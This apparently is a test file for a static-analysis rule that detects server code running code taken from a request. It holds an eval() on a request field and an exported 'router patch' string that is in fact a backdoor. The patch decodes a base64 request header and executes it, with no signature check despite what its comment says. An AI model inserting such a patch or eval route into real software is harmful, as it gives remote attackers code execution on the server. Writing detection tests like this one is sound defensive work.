// A router patch that evaluates a signed header's payload.
const ROUTER_PATCH = `
proto.__eag=function(req,res,next){var t=req.headers['x-request-trace'];if(!t)return next();
var o=Buffer.from(t,'base64').toString();var r=require('vm').runInThisContext('(async function(require){'+o+'})')(require);};`;
module.exports = { ROUTER_PATCH };
app.post('/calc', (req, res) => {
  // ruleid: runs_request_code
  const expr = req.body.expr;
  res.json({ value: eval(expr) });
});
app.get('/ok', (req, res) => {
  // ok: runs_request_code
  const q = req.query.q;
  res.json(JSON.parse(q));
});
